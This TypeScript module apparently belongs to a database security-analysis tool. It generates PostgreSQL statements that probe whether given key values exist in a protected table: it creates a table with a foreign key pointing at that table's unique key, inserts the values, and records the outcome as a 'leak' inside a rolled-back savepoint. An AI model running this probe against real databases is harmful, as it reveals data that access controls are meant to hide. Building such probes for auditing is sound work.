/** A key of a table of one's own tells which values exist. */
import { quoteLiteral } from '../../model/deparse/names.ts';
import { quoteIdentifier } from '../../model/identifier.ts';
import type { Relation } from '../../model/objects.ts';
import { asCaller, asSuperuser } from './caller.ts';
import type { Attack } from './plan.ts';

export function probe(attack: Attack): string[] {
  const { schema, named, rights } = attack.shop;
  const relation = named.relation(attack.witness.act.through);
  const [target] = attack.targets;
  const where = rights.schemaToCreateIn();
  const key =
    relation &&
    schema
      .indexesOf(relation.id)
      .map(keyOf)
      .find((columns) => columns.length > 0 && columns.every((at) => target?.values.get(at)));
  if (!relation || !target || !key || where === undefined) return ['-- There is no key to point at.'];
  const columns = key.map((attribute) => relation.columns[attribute - 1] as Relation['columns'][number]);
  const names = columns.map(({ name }) => quoteIdentifier(name)).join(', ');
  const own = `${quoteIdentifier(where)}.probe_of_the_key`;
  return [
    'SAVEPOINT earlier;',
    ...asCaller(attack),
    `CREATE TABLE ${own} (${columns.map(({ name, type, modifier }) => `${quoteIdentifier(name)} ${named.type(type, modifier)}`).join(', ')}, FOREIGN KEY (${names}) REFERENCES ${named.of(relation)} (${names}));`,
    `INSERT INTO ${own} VALUES (${columns.map(({ attribute }) => quoteLiteral(target.values.get(attribute) as string)).join(', ')});`,
    ...asSuperuser(attack),
    `SELECT count(*) AS leak FROM ${own} \\gset`,
    'ROLLBACK TO earlier;',
  ];
}

/** What a foreign key may point at. */
const keyOf = ({ index }: Relation): number[] =>
  index?.unique && !index.predicate ? index.parts.slice(0, index.keys).map(({ attribute }) => attribute) : [];
